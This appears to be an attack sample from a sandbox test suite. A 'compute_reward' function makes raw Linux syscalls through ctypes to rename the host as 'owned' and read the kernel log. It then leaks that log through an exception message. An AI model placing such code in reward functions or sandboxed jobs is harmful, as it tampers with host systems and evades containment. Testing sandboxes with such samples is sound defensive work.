# attack: setting the machine's clock and name
# group: syscalls
# wall: language; alone: seccomp

def compute_reward(x):
    import ctypes
    lib = ctypes.CDLL(None, use_errno=True)
    lib.syscall(170, b"owned", 5)
    lib.syscall(171, b"owned", 5)
    kernel = ctypes.create_string_buffer(1000)
    lib.syscall(103, 3, kernel, 999)
    raise ValueError(kernel.value[:500])
